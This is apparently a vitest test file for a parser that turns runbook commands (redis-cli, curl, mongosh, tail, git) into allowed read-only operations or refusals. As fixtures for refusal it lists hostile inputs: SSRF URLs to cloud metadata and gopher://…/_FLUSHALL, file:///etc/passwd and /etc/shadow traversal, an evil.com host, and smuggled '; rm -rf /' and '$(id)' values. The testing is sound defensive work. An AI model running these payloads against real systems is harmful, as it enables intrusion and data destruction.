import { describe, expect, it } from "vitest";
import { namedTargetUrl } from "@/lib/config/named-target";
import { externalServiceUrl } from "@/lib/http/target-get";
import { mongoCli } from "../../../lib/systems/mongo/cli";
import type { ParsedCommand } from "../../../lib/systems/operation";
import { parseCommand } from "../../../lib/systems/parse-command";

const bash = (line: string, context: "diagnosis" | "solution" = "diagnosis"): ParsedCommand =>
  parseCommand(line, "bash", { context });

const reasonOf = (parsed: ParsedCommand): string => (parsed.type === "manual" ? parsed.reason : "");

describe("redis-cli", () => {
  it("GET with a key template asks for the placeholder with a strict pattern", () => {
    expect(bash('redis-cli get "rate_limit:{user_id}"')).toEqual({
      type: "operation",
      operation: { kind: "redis", command: "GET", args: ["rate_limit:{user_id}"] },
      params: [
        {
          name: "user_id",
          label: "User ID",
          pattern: "^[A-Za-z0-9_.:-]{1,128}$",
          hint: "1–128 characters: letters, digits and _ . : -",
          maxLength: 128,
        },
      ],
      cli: "redis-cli GET 'rate_limit:{user_id}'",
    });
  });

  it("GET with several placeholders or none", () => {
    const parsed = bash("redis-cli GET 'quota:{org}:{user_id}:{org}'");
    expect(parsed.type === "operation" ? parsed.params.map((param) => param.name) : []).toEqual(["org", "user_id"]);
    expect(bash("redis-cli GET feature:flags")).toMatchObject({ type: "operation", params: [] });
    expect(bash("redis-cli GET a b").type).toBe("manual");
    expect(bash('redis-cli GET "has space"').type).toBe("manual");
  });

  it("INFO with and without a section, optionally grepped, case-insensitively", () => {
    expect(bash("redis-cli info memory")).toMatchObject({
      operation: { kind: "redis", command: "INFO", args: ["memory"] },
      cli: "redis-cli INFO memory",
    });
    expect(bash("redis-cli INFO | grep hit")).toMatchObject({
      operation: { kind: "redis", command: "INFO", args: [], grep: "hit" },
      cli: "redis-cli INFO | grep hit",
    });
    expect(bash("redis-cli Info Stats | grep -i KEYSPACE")).toMatchObject({
      operation: { command: "INFO", args: ["stats"], grep: "KEYSPACE", grepIgnoreCase: true },
      cli: "redis-cli INFO stats | grep -i KEYSPACE",
    });
    expect(bash("redis-cli info 'mem ory'").type).toBe("manual");
  });

  it("the other read-only diagnostics", () => {
    const cases: [string, string, string[]][] = [
      ["redis-cli config get maxmemory", "CONFIG GET", ["maxmemory"]],
      ["redis-cli CONFIG GET maxmemory*", "CONFIG GET", ["maxmemory*"]],
      ["redis-cli slowlog get", "SLOWLOG GET", []],
      ["redis-cli SLOWLOG GET 25", "SLOWLOG GET", ["25"]],
      ["redis-cli latency latest", "LATENCY LATEST", []],
      ["redis-cli memory stats", "MEMORY STATS", []],
      ["redis-cli MEMORY DOCTOR", "MEMORY DOCTOR", []],
      ["redis-cli dbsize", "DBSIZE", []],
    ];
    for (const [line, command, args] of cases) {
      expect(bash(line), line).toMatchObject({ type: "operation", operation: { kind: "redis", command, args } });
    }
    expect(bash("redis-cli SLOWLOG GET many").type).toBe("manual");
    expect(bash("redis-cli DBSIZE 1").type).toBe("manual");
  });

  it("CONFIG GET never reads credentials, even through a glob", () => {
    for (const line of [
      "redis-cli CONFIG GET requirepass",
      "redis-cli config get masterauth",
      "redis-cli CONFIG GET *",
      "redis-cli CONFIG GET *pass",
      "redis-cli CONFIG GET require?ass",
    ]) {
      expect(reasonOf(bash(line)), line).toMatch(/credential/);
    }
  });

  it("connection options are stripped: an address never comes from the text", () => {
    const parsed = bash("redis-cli -h 169.254.169.254 -p 6379 -a secret --tls INFO memory");
    expect(parsed).toEqual({
      type: "operation",
      operation: { kind: "redis", command: "INFO", args: ["memory"] },
      params: [],
      cli: "redis-cli INFO memory",
    });
    expect(JSON.stringify(parsed)).not.toMatch(/169\.254|secret|6379/);
    // A name is only a key into REDIS_TARGETS: unconfigured, the step says which target to add.
    expect(bash("redis-cli -u redis://evil:6379 DBSIZE")).toMatchObject({
      operation: { target: { name: "evil", port: "6379" } },
      cli: "redis-cli -h evil -p 6379 DBSIZE",
    });
    expect(reasonOf(bash("redis-cli -n 3 GET k"))).toMatch(/database/);
    expect(reasonOf(bash("redis-cli --bigkeys"))).toMatch(/not run live/);
    expect(reasonOf(bash("redis-cli"))).toMatch(/interactive/);
  });

  it("--memkeys is the keyspace analysis, with connection options dropped; other scan modes stay manual", () => {
    const expected = {
      type: "operation",
      operation: { kind: "redis", command: "--memkeys", args: [] },
      params: [],
      cli: "redis-cli --memkeys",
    };
    expect(bash("redis-cli --memkeys")).toEqual(expected);
    expect(bash("redis-cli -h 10.0.0.5 -p 6380 -a secret --memkeys")).toEqual(expected);
    expect(reasonOf(bash("redis-cli --memkeys INFO"))).toMatch(/takes no Redis command/);
    expect(reasonOf(bash("redis-cli --memkeys | grep agent"))).toMatch(/not filtered with grep/);
    expect(reasonOf(bash("redis-cli --memkeys --pattern 'agent:*'"))).toMatch(/--pattern is not run live/);
    expect(reasonOf(bash("redis-cli --memkeys-samples 10"))).toMatch(/not run live/);
    expect(reasonOf(bash("redis-cli --hotkeys"))).toMatch(/LFU/);
    expect(reasonOf(bash("redis-cli --scan"))).toMatch(/not run live/);
    expect(reasonOf(bash("redis-cli KEYS '*'"))).toMatch(/use SCAN/);
  });

  it("CONFIG SET is a remediation, only for allow-listed parameters", () => {
    expect(bash("redis-cli config set maxmemory-policy allkeys-lru")).toEqual({
      type: "remediation",
      remediation: { system: "redis", action: "CONFIG SET", args: ["maxmemory-policy", "allkeys-lru"] },
      cli: "redis-cli CONFIG SET maxmemory-policy allkeys-lru",
    });
    expect(bash("redis-cli -h prod CONFIG SET maxmemory 2gb")).toMatchObject({
      type: "remediation",
      remediation: { args: ["maxmemory", "2gb"] },
    });
    for (const line of [
      "redis-cli CONFIG SET dir /tmp",
      "redis-cli CONFIG SET dbfilename x.rdb",
      "redis-cli CONFIG SET requirepass x",
      "redis-cli CONFIG SET maxmemory-policy everything",
      "redis-cli CONFIG SET maxmemory lots",
      "redis-cli CONFIG SET maxmemory",
    ]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("writes, blocking, scripts and @dangerous commands stay manual, with Redis's own reason", () => {
    for (const [line, reason] of [
      ["redis-cli FLUSHALL", /FLUSHALL changes data \(Redis flags it write\)/],
      ["redis-cli flushdb", /FLUSHDB changes data/],
      ["redis-cli KEYS '*'", /KEYS is in Redis's @dangerous category .*use SCAN/],
      ["redis-cli DEL rate_limit:42", /DEL changes data \(Redis flags it write\) — not a read-only diagnostic/],
      ["redis-cli SET a b", /SET changes data/],
      ["redis-cli CONFIG REWRITE", /CONFIG REWRITE is not flagged read-only by Redis \(an administrative command\)/],
      ["redis-cli SHUTDOWN", /SHUTDOWN is not flagged read-only by Redis/],
      ["redis-cli EVAL 'return 1' 0", /EVAL runs a script/],
      ["redis-cli BLPOP queue:payments 0", /BLPOP changes data|BLPOP blocks/],
      ["redis-cli XREAD BLOCK 0 STREAMS s $", /shell expansion|XREAD blocks the connection/],
      [
        "redis-cli XREAD BLOCK 0 STREAMS s 0",
        /XREAD blocks the connection waiting for data \(Redis flags it blocking\)/,
      ],
      ["redis-cli NOSUCHCMD x", /NOSUCHCMD is not a command Redis lists/],
    ] as const) {
      const parsed = bash(line);
      expect(parsed.type, line).toBe("manual");
      expect(reasonOf(parsed), line).toMatch(reason);
      expect(parsed.cli).toBe(line);
    }
  });

  it("runs any command Redis flags read-only, and the introspection ones, as a shown reply", () => {
    for (const [line, words] of [
      ['redis-cli llen "queue:payments"', ["llen", "queue:payments"]],
      ["redis-cli -h cache-2 HLEN h", ["HLEN", "h"]],
      ["redis-cli XINFO STREAM s", ["XINFO", "STREAM", "s"]],
      ["redis-cli MEMORY USAGE k", ["MEMORY", "USAGE", "k"]],
      ["redis-cli CLIENT LIST", ["CLIENT", "LIST"]],
      ["redis-cli TYPE k", ["TYPE", "k"]],
      ["redis-cli SCAN 0 MATCH 'queue:*'", ["SCAN", "0", "MATCH", "queue:*", "COUNT", "100"]],
      ["redis-cli SCAN 0 COUNT 100000", ["SCAN", "0", "COUNT", "1000"]],
    ] as const) {
      const parsed = bash(line);
      expect(parsed.type, line).toBe("operation");
      if (parsed.type === "operation")
        expect(parsed.operation).toMatchObject({ kind: "redis", command: "READ", args: words });
    }
  });

  it("refuses expansions and operators", () => {
    expect(bash('redis-cli GET "rate:$USER"').type).toBe("manual");
    expect(bash("redis-cli INFO; redis-cli FLUSHALL").type).toBe("manual");
    expect(bash("redis-cli INFO | grep hit | wc -l").type).toBe("manual");
    expect(bash("redis-cli INFO > /tmp/out").type).toBe("manual");
  });
});

describe("curl", () => {
  it("your-api-url resolves to the configured API targets", () => {
    expect(bash("curl http://your-api-url/metrics | grep error")).toEqual({
      type: "operation",
      operation: { kind: "http", target: { kind: "metrics" }, path: "/", timing: false, grep: "error" },
      params: [],
      cli: 'curl -s "$API_URL/metrics" | grep error',
    });
    expect(bash("curl http://your-api-url/health")).toMatchObject({
      operation: { kind: "http", target: { kind: "health" }, path: "/", timing: false },
    });
    expect(bash("curl -s http://your-api-url/api/v2/status?verbose=1")).toMatchObject({
      operation: { kind: "http", target: { kind: "api" }, path: "/api/v2/status?verbose=1" },
    });
    expect(bash("curl http://your-api-url")).toMatchObject({ operation: { target: { kind: "api" }, path: "/" } });
    expect(bash("curl -sSf https://YOUR-API-URL/metrics | grep -i Error")).toMatchObject({
      operation: { target: { kind: "metrics" }, grep: "Error", grepIgnoreCase: true },
    });
  });

  it("timing with -w", () => {
    expect(bash('curl -w "\\n%{time_total}s\\n" http://external-service/health')).toEqual({
      type: "operation",
      operation: {
        kind: "http",
        target: { kind: "external", name: "external-service" },
        path: "/health",
        timing: true,
      },
      params: [],
      cli: "curl -s -w '\\n%{time_total}s\\n' \"$EXTERNAL_SERVICE_URL/health\"",
    });
    expect(bash("curl -s -w '%{http_code}' http://your-api-url/health")).toMatchObject({
      operation: { timing: false },
    });
    expect(bash("curl -sw '%{time_connect}' http://your-api-url/health")).toMatchObject({
      operation: { timing: true },
    });
    expect(bash("curl --write-out '%{time_total}' http://your-api-url/health")).toMatchObject({
      operation: { timing: true },
    });
    expect(bash("curl -w '%{stderr}x' http://your-api-url/health").type).toBe("manual");
    expect(bash("curl -w '%output{/tmp/x}' http://your-api-url/health").type).toBe("manual");
  });

  it("Prometheus: /api/v1/targets is its own operation, other read API paths are http", () => {
    expect(bash("curl http://prometheus:9090/api/v1/targets")).toEqual({
      type: "operation",
      operation: { kind: "prometheus-targets" },
      params: [],
      cli: 'curl -s "$PROMETHEUS_URL/api/v1/targets"',
    });
    expect(bash("curl 'http://prometheus:9090/api/v1/query?query=up'")).toMatchObject({
      operation: { kind: "http", target: { kind: "prometheus" }, path: "/api/v1/query?query=up" },
    });
    expect(bash("curl -s http://prometheus:9090/api/v1/targets | grep health")).toMatchObject({
      operation: { kind: "http", target: { kind: "prometheus" }, path: "/api/v1/targets", grep: "health" },
    });
  });

  it("Prometheus paths outside /api/v1/ and normalisation tricks are manual", () => {
    for (const line of [
      "curl http://prometheus:9090/metrics",
      "curl http://prometheus:9090/-/reload",
      "curl http://prometheus:9090/api/v1/admin/tsdb/delete_series",
      "curl http://prometheus:9090/api/v1/../../etc/passwd",
      "curl http://prometheus:9090/api/v1/./targets",
      "curl http://prometheus:9090//api/v1/targets",
      "curl http://prometheus:9090/api/v1//targets",
      "curl http://prometheus:9090/api/v1/%2e%2e/admin",
      "curl http://prometheus:9090/api%2fv1/targets",
      "curl http://prometheus:9090/api/v1/..%2ftargets",
      "curl 'http://prometheus:9090/api/v1/targets\\..\\admin'",
      "curl http://prometheus:9090/api/v1/targets#frag",
      "curl http://prometheus:8080/api/v1/targets",
    ]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("a host the guide names runs against the configured target of that name or host, never the name itself", () => {
    for (const [line, target] of [
      ["curl -s http://workers.internal:8080/health", { kind: "external", name: "workers.internal", port: "8080" }],
      ["curl http://payments-service/health", { kind: "external", name: "payments-service" }],
    ] as const) {
      const parsed = bash(line);
      expect(parsed.type, line).toBe("operation");
      if (parsed.type === "operation")
        expect(parsed.operation).toMatchObject({ kind: "http", target, path: "/health" });
    }
  });

  it("redis-cli -h / -u name a Redis target (a key into REDIS_TARGETS); the local default names none", () => {
    expect(bash("redis-cli -h cache-2 -p 6380 TYPE k")).toMatchObject({
      operation: { command: "READ", target: { name: "cache-2", port: "6380" } },
      cli: "redis-cli -h cache-2 -p 6380 TYPE k",
    });
    expect(bash("redis-cli -u redis://sessions.internal:6379 info memory")).toMatchObject({
      operation: { command: "INFO", target: { name: "sessions.internal", port: "6379" } },
    });
    const local = bash("redis-cli -h 127.0.0.1 info memory");
    expect(local.type === "operation" && "target" in local.operation).toBe(false);
    const redisUrls = { "cache-2": "redis://10.0.0.9:6380", sessions: "rediss://sessions.internal" };
    expect(namedTargetUrl(redisUrls, { name: "cache-2" })).toBe("redis://10.0.0.9:6380");
    expect(namedTargetUrl(redisUrls, { name: "sessions.internal", port: "6379" })).toBe("rediss://sessions.internal");
    expect(namedTargetUrl(redisUrls, { name: "cache-3" })).toBeUndefined();
  });

  it("a named host matches EXTERNAL_SERVICES by name, else by the configured URL's host and port", () => {
    const services = { workers: "http://workers.internal:8080", api: "https://api.example.com" };
    expect(externalServiceUrl(services, { name: "workers" })).toBe("http://workers.internal:8080");
    expect(externalServiceUrl(services, { name: "workers.internal", port: "8080" })).toBe(
      "http://workers.internal:8080",
    );
    expect(externalServiceUrl(services, { name: "workers.internal" })).toBe("http://workers.internal:8080");
    expect(externalServiceUrl(services, { name: "workers.internal", port: "9090" })).toBeUndefined();
    expect(externalServiceUrl(services, { name: "api.example.com", port: "443" })).toBe("https://api.example.com");
    expect(externalServiceUrl(services, { name: "cache-2" })).toBeUndefined();
  });

  it("SSRF: IP literals, localhost and odd hosts name no target and are manual", () => {
    for (const line of [
      "curl http://127.0.0.1/metrics",
      "curl http://127.0.0.1:6379/",
      "curl http://169.254.169.254/latest/meta-data/",
      "curl http://localhost:9090/api/v1/targets",
      "curl http://0x7f000001/",
      "curl http://2130706433/",
      "curl http://[::1]/",
      "curl file:///etc/passwd",
      "curl gopher://127.0.0.1:6379/_FLUSHALL",
      "curl dict://127.0.0.1:6379/INFO",
      "curl http://your-api-url@169.254.169.254/latest",
      "curl http://your-api-url.evil.com/metrics",
      "curl http://your-api-url:8080/metrics",
      "curl your-api-url/metrics",
      'curl "http://$HOST/metrics"',
      'curl "$EVIL_URL/metrics"',
      'curl "$API_URL$(id)/metrics"',
    ]) {
      const parsed = bash(line);
      expect(parsed.type, line).toBe("manual");
      expect(reasonOf(parsed), line).toBe("curl to a host that is not a configured target");
    }
  });

  it("curl flags other than -s -S -f -w are manual, and so are fancy greps", () => {
    for (const line of [
      "curl -L http://your-api-url/health",
      "curl -X POST http://your-api-url/health",
      "curl -o /dev/null http://your-api-url/health",
      "curl -d x http://your-api-url/health",
      "curl -H 'Host: evil' http://your-api-url/health",
      "curl --proxy http://evil http://your-api-url/health",
      "curl -k http://your-api-url/health",
      "curl http://your-api-url/health http://your-api-url/metrics",
      "curl",
      "curl http://your-api-url/metrics | grep -v error",
      "curl http://your-api-url/metrics | grep -E 'a|b'",
      "curl http://your-api-url/metrics | grep error file",
      "curl http://your-api-url/metrics | awk '{print $1}'",
      'curl http://your-api-url/metrics | grep "$PAT"',
    ]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("the canonical cli parses back to the same operation", () => {
    expect(bash('curl -s "$API_URL/metrics" | grep error')).toMatchObject({
      operation: { kind: "http", target: { kind: "metrics" }, path: "/", grep: "error" },
    });
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell ${VAR}, deliberately not a JS template
    expect(bash('curl -s "${PROMETHEUS_URL}/api/v1/targets"')).toMatchObject({
      operation: { kind: "prometheus-targets" },
    });
  });
});

describe("mongo shell", () => {
  it("serverStatus, connections, currentOp", () => {
    expect(bash("db.serverStatus()")).toMatchObject({ operation: { kind: "mongo", op: "serverStatus" } });
    expect(bash("db.serverStatus().connections")).toEqual({
      type: "operation",
      operation: { kind: "mongo", op: "connections" },
      params: [],
      cli: "mongosh --eval 'db.serverStatus().connections'",
    });
    expect(bash("db.serverStatus().wiredTiger.cache;")).toMatchObject({
      operation: { op: "serverStatus", field: "wiredTiger.cache" },
    });
    expect(bash("db.currentOp()")).toEqual({
      type: "operation",
      operation: { kind: "mongo", op: "currentOp" },
      params: [],
      cli: "mongosh --eval 'db.currentOp()'",
    });
    expect(bash("db.runCommand({ serverStatus: 1 })")).toMatchObject({ operation: { op: "serverStatus" } });
    expect(bash("db.adminCommand({ currentOp: true })")).toMatchObject({ operation: { op: "currentOp" } });
  });

  it("explain on the guide's db.collection asks for collection and filter", () => {
    expect(bash('db.collection.find().explain("executionStats")')).toEqual({
      type: "operation",
      operation: { kind: "mongo", op: "explain", collection: "{collection}", filter: "{filter}" },
      params: [
        {
          name: "collection",
          label: "Collection",
          pattern: "^(?!system\\.)[A-Za-z_][A-Za-z0-9_.-]{0,119}$",
          hint: "a collection name: letter or _ first, then letters, digits, _ . - (not system.*)",
          maxLength: 120,
        },
        {
          name: "filter",
          label: "Query filter (JSON)",
          pattern: "^\\s*\\{[\\s\\S]*\\}\\s*$",
          hint: 'a JSON object such as {"status": "active"}; unquoted keys and single quotes are accepted',
          maxLength: 2000,
          defaultValue: "{}",
        },
      ],
      cli: "mongosh --eval 'db.{collection}.find({filter}).explain(\"executionStats\")'",
    });
  });

  it("explain keeps a real collection and a literal filter as defaults", () => {
    const parsed = bash("db.orders.find({ \"status\": 'active', total: { $gt: 10 } }).explain('executionStats')");
    expect(parsed).toMatchObject({
      operation: { op: "explain", collection: "{collection}", filter: "{filter}" },
      params: [
        { name: "collection", defaultValue: "orders" },
        { name: "filter", defaultValue: '{"status":"active","total":{"$gt":10}}' },
      ],
    });
    expect(bash('db.getCollection("order-items").find().explain()')).toMatchObject({
      params: [{ name: "collection", defaultValue: "order-items" }, { name: "filter" }],
    });
    expect(bash("db.app.events.explain('executionStats').find({ a: 1 })")).toMatchObject({
      params: [
        { name: "collection", defaultValue: "app.events" },
        { name: "filter", defaultValue: '{"a":1}' },
      ],
    });
  });

  it("explain reads the filter as shell syntax: ISODate, ObjectId, NumberLong and regexes travel as Extended JSON", () => {
    const parsed = bash(
      'db.orders.find({status: "pending", created_at: {$lt: ISODate("2024-01-01")}}).explain("executionStats")',
    );
    expect(parsed).toMatchObject({
      type: "operation",
      operation: { kind: "mongo", op: "explain", collection: "{collection}", filter: "{filter}" },
      params: [
        { name: "collection", defaultValue: "orders" },
        { name: "filter", defaultValue: '{"status":"pending","created_at":{"$lt":{"$date":"2024-01-01T00:00:00Z"}}}' },
      ],
    });
    expect(
      bash(
        'db.orders.find({_id: ObjectId("5f1d7a0b2c3e4f5a6b7c8d9e"), n: {$gt: NumberLong("9007199254740993")}, ' +
          "name: /^ad/i}).explain()",
      ),
    ).toMatchObject({
      params: [
        { name: "collection" },
        {
          name: "filter",
          defaultValue:
            '{"_id":{"$oid":"5f1d7a0b2c3e4f5a6b7c8d9e"},"n":{"$gt":{"$numberLong":"9007199254740993"}},' +
            '"name":{"$regularExpression":{"pattern":"^ad","options":"i"}}}',
        },
      ],
    });
  });

  it("the copyable mongosh line deserializes an Extended JSON filter, so the Date stays a Date", () => {
    const filter = '{"created_at":{"$lt":{"$date":"2024-01-01T00:00:00Z"}}}';
    expect(mongoCli({ kind: "mongo", op: "explain", collection: "orders", filter })).toBe(
      `mongosh --eval 'db.orders.find(EJSON.deserialize(${filter})).explain("executionStats")'`,
    );
    expect(mongoCli({ kind: "mongo", op: "explain", collection: "orders", filter: '{"status":"pending"}' })).toBe(
      `mongosh --eval 'db.orders.find({"status":"pending"}).explain("executionStats")'`,
    );
  });

  it("explain refuses what it cannot run faithfully or safely", () => {
    for (const line of [
      'db.orders.find({ $where: "sleep(10000)" }).explain("executionStats")',
      "db.orders.find({ a: { $function: { body: 'x' } } }).explain()",
      'db.orders.find({ _id: ObjectId("5f1d") }).explain()',
      "db.orders.find({ a: function () { return 1 } }).explain()",
      "db.orders.find({ a: Math.max(1, 2) }).explain()",
      'db.orders.find({ a: Code("sleep(1)") }).explain()',
      "db.orders.find({ a: x }).explain()",
      "db.orders.find([{ a: 1 }]).explain()",
      'db.orders.aggregate([{ $match: { a: 1 } }, { $out: "copy" }])',
      'db.orders.aggregate([{ $merge: { into: "copy" } }])',
      "db.orders.find({}, { a: 1 }).explain()",
      "db.orders.find().sort({ a: 1 }).explain()",
      'db.orders.find().explain("allPlansExecution")',
      'db["orders"].find().explain()',
      "db.system.users.find().explain()",
      "db.getCollection('system.users').getIndexes()",
      "db.getCollection('$bad').getIndexes()",
    ]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("getIndexes", () => {
    expect(bash("db.collection.getIndexes()")).toMatchObject({
      operation: { kind: "mongo", op: "getIndexes", collection: "{collection}" },
      params: [{ name: "collection" }],
      cli: "mongosh --eval 'db.{collection}.getIndexes()'",
    });
    expect(bash("db.users.getIndexes()")).toMatchObject({ params: [{ name: "collection", defaultValue: "users" }] });
  });

  it("setProfilingLevel: read-only counterpart in a diagnosis, remediation in a solution", () => {
    const line = "db.setProfilingLevel(1, { slowms: 100 })";
    expect(bash(line)).toMatchObject({
      type: "operation",
      operation: { kind: "mongo", op: "profiler", slowms: 100 },
      params: [],
      readOnlyCounterpartOf: line,
    });
    expect(bash(line, "solution")).toEqual({
      type: "remediation",
      remediation: { system: "mongo", action: "setProfilingLevel", args: ["1", '{"slowms":100}'] },
      cli: "mongosh --eval 'db.setProfilingLevel(1, { slowms: 100 })'",
    });
    expect(bash("db.setProfilingLevel(2)")).toMatchObject({ operation: { op: "profiler" } });
    expect(bash("db.setProfilingLevel(1, 250)")).toMatchObject({ operation: { op: "profiler", slowms: 250 } });
    expect(bash("db.setProfilingLevel(5)").type).toBe("manual");
    expect(bash("db.setProfilingLevel(1, { slowms: 'x' })").type).toBe("manual");
  });

  it("profiler reads", () => {
    for (const line of [
      "db.getProfilingLevel()",
      "db.getProfilingStatus()",
      "db.system.profile.find()",
      "db.system.profile.find({ millis: { $gt: 100 } }).sort({ ts: -1 }).limit(5)",
    ]) {
      expect(bash(line), line).toMatchObject({ operation: { kind: "mongo", op: "profiler" } });
    }
  });

  it("createIndex is a remediation", () => {
    expect(bash('db.collection.createIndex({ "field": 1 })', "solution")).toEqual({
      type: "remediation",
      remediation: { system: "mongo", action: "createIndex", args: ["{collection}", '{"field":1}'] },
      cli: "mongosh --eval 'db.collection.createIndex({ \"field\": 1 })'",
    });
    expect(bash("db.orders.createIndex({ status: 1, ts: -1 }, { name: 'by_status' })")).toMatchObject({
      remediation: { args: ["orders", '{"status":1,"ts":-1}', '{"name":"by_status"}'] },
    });
    expect(bash("db.orders.createIndex()").type).toBe("manual");
  });

  it("writes and other calls are manual", () => {
    for (const line of [
      "db.dropDatabase()",
      "db.orders.remove({})",
      "db.orders.update({}, { $set: { a: 1 } })",
      "db.orders.insert({ a: 1 })",
      "db.orders.deleteMany({})",
      "db.killOp(1234)",
      "db.orders.drop()",
      "db.runCommand({ drop: 'orders' })",
      "db.shutdownServer()",
    ]) {
      const parsed = bash(line);
      expect(parsed.type, line).toBe("manual");
      expect(reasonOf(parsed), line).toMatch(/not read-only/);
    }
    expect(reasonOf(bash('db.orders.distinct("status")'))).toMatch(/read-only but not one of the diagnostics/);
    expect(bash("db.serverStatus() && rm -rf /").type).toBe("manual");
    expect(bash("db.serverStatus().connections()").type).toBe("manual");
    expect(bash("db.currentOp({ active: true })").type).toBe("manual");
  });

  it("mongosh --eval is understood and its connection string ignored", () => {
    expect(bash("mongosh --eval 'db.serverStatus().connections'")).toMatchObject({
      operation: { kind: "mongo", op: "connections" },
    });
    const parsed = bash("mongosh mongodb://169.254.169.254:27017/admin --quiet --eval 'db.currentOp()'");
    expect(parsed).toMatchObject({ operation: { op: "currentOp" }, cli: "mongosh --eval 'db.currentOp()'" });
    expect(bash("mongosh").type).toBe("manual");
    expect(bash('mongosh --eval "db.orders.find({a: {$gt: 1}}).explain()"').type).toBe("manual");
    expect(bash("mongosh --eval 'db.dropDatabase()'").type).toBe("manual");
  });

  it("mongosh's address names a server (a key into MONGODB_TARGETS); localhost and IP literals name none", () => {
    expect(bash("mongosh mongodb://rb:secret@orders-db:27018/app --eval 'db.currentOp()'")).toMatchObject({
      operation: { op: "currentOp", target: { name: "orders-db", port: "27018" } },
      cli: "mongosh mongodb://orders-db:27018 --eval 'db.currentOp()'",
    });
    expect(bash("mongosh --host orders-db --eval 'db.currentOp()'")).toMatchObject({
      operation: { target: { name: "orders-db" } },
    });
    const local = bash("mongosh mongodb://127.0.0.1:27017/app --eval 'db.currentOp()'");
    expect(local.type === "operation" && "target" in local.operation).toBe(false);
    expect(JSON.stringify(bash("mongosh mongodb://rb:secret@orders-db/app --eval 'db.currentOp()'"))).not.toContain(
      "secret",
    );
  });

  it("a mongosh code block takes db.* lines; a javascript block's db.* lines too, its other code stays manual", () => {
    expect(parseCommand("db.currentOp()", "mongosh")).toMatchObject({ operation: { op: "currentOp" } });
    expect(parseCommand("db.currentOp()", "javascript")).toMatchObject({ operation: { op: "currentOp" } });
    expect(parseCommand("db.currentOp()", "js")).toMatchObject({ operation: { op: "currentOp" } });
    expect(parseCommand("const orders = await db.collection('orders').find().toArray()", "javascript")).toMatchObject({
      type: "manual",
      reason: "code, not a command (javascript block): only db.* shell expressions run live",
    });
    expect(parseCommand('db.orders.deleteMany({status: "abandoned"})', "javascript")).toMatchObject({
      type: "manual",
      reason: expect.stringMatching(/deleteMany\(\) changes data or server state/),
    });
    expect(parseCommand("use admin", "mongosh").type).toBe("manual");
  });
});

describe("logs, history, environment, config, system", () => {
  it("tail", () => {
    expect(bash("tail -f /var/log/error.log")).toEqual({
      type: "operation",
      operation: { kind: "log-tail", file: "/var/log/error.log", follow: true },
      params: [],
      cli: "tail -f /var/log/error.log",
    });
    expect(bash("tail -n 100 /var/log/app/worker.log")).toMatchObject({
      operation: { kind: "log-tail", file: "/var/log/app/worker.log", follow: false },
    });
    expect(bash("tail -n50 -F /var/log/syslog")).toMatchObject({ operation: { follow: true } });
    expect(bash("sudo tail -f /var/log/error.log")).toMatchObject({ operation: { kind: "log-tail" } });
    for (const line of [
      "tail -f /etc/shadow",
      "tail -f /var/log/../../etc/shadow",
      "tail -f /var/log/*.log",
      "tail -f ~/app.log",
      "tail -f a.log b.log",
      "tail -f /var/log/error.log | grep ERROR",
      "tail -c 100 /var/log/error.log",
    ]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("git log --since is validated", () => {
    expect(bash('git log --since="24 hours ago"')).toEqual({
      type: "operation",
      operation: { kind: "git-log", since: "24 hours ago" },
      params: [],
      cli: 'git log --since="24 hours ago"',
    });
    expect(bash("git log --since '2 days ago' --oneline")).toMatchObject({ operation: { since: "2 days ago" } });
    expect(bash("git log --after=2024-05-01")).toMatchObject({ operation: { since: "2024-05-01" } });
    expect(bash("git log --since=2024-05-01T10:00:00Z")).toMatchObject({
      operation: { since: "2024-05-01T10:00:00Z" },
    });
    expect(bash("git log --since='3 Days Ago'")).toMatchObject({ operation: { since: "3 days ago" } });
    for (const line of [
      "git log",
      'git log --since="yesterday"',
      'git log --since="24 hours ago; rm -rf /"',
      "git log --since=2024-13-01",
      "git log -p --since='1 day ago'",
      "git push --force",
      "git -C /etc log --since='1 day ago'",
    ]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("env | grep PREFIX", () => {
    expect(bash("env | grep APP_")).toEqual({
      type: "operation",
      operation: { kind: "env", prefix: "APP_" },
      params: [],
      cli: "env | grep '^APP_'",
    });
    expect(bash("printenv | grep '^REDIS_'")).toMatchObject({ operation: { prefix: "REDIS_" } });
    for (const line of ["env", "env | grep -i app", "env | grep 'A.*'", "env FOO=1 sh", "env | grep -v APP_"]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("cat of a config file", () => {
    expect(bash("cat config.yaml")).toEqual({
      type: "operation",
      operation: { kind: "config-file", file: "config.yaml" },
      params: [],
      cli: "cat config.yaml",
    });
    expect(bash("cat /etc/app/settings.json")).toMatchObject({ operation: { file: "/etc/app/settings.json" } });
    for (const line of ["cat .env", "cat /etc/passwd", "cat ../config.yaml", "cat a.yaml b.yaml", "cat"]) {
      expect(bash(line).type, line).toBe("manual");
    }
  });

  it("system resources and network", () => {
    for (const line of ["htop", "top", "top -b -n 1", "free -h", "uptime"]) {
      expect(bash(line), line).toMatchObject({ operation: { kind: "system", what: "resources" } });
    }
    for (const line of ["netstat -tulpn", "ss -tulpn", "ss -tlnp", "netstat"]) {
      expect(bash(line), line).toMatchObject({ operation: { kind: "system", what: "network" } });
    }
    expect(bash("htop -d 10").type).toBe("manual");
    expect(bash("ss -K dst 10.0.0.1").type).toBe("manual");
  });
});

describe("languages, blanks and the unknown", () => {
  it("non-shell blocks are code, never commands", () => {
    for (const lang of ["python", "yaml", "json", "text", "dockerfile"]) {
      const parsed = parseCommand("redis-cli INFO", lang);
      expect(parsed, lang).toMatchObject({ type: "manual", cli: "redis-cli INFO" });
      expect(reasonOf(parsed)).toMatch(/code, not a command/);
    }
    // An sql fence belongs to PostgreSQL: its lines are SQL, so a shell command there is not a SELECT.
    expect(reasonOf(parseCommand("redis-cli INFO", "sql"))).toMatch(/not a SELECT statement/);
    expect(parseCommand("SELECT state, count(*) FROM pg_stat_activity GROUP BY state", "sql").type).toBe("operation");
    expect(parseCommand("redis-cli info memory", "sh").type).toBe("operation");
    expect(parseCommand("redis-cli info memory", "").type).toBe("operation");
    expect(parseCommand("redis-cli info memory", "Shell").type).toBe("operation");
  });

  it("a redis block takes bare Redis commands", () => {
    expect(parseCommand("INFO memory", "redis")).toMatchObject({ operation: { command: "INFO", args: ["memory"] } });
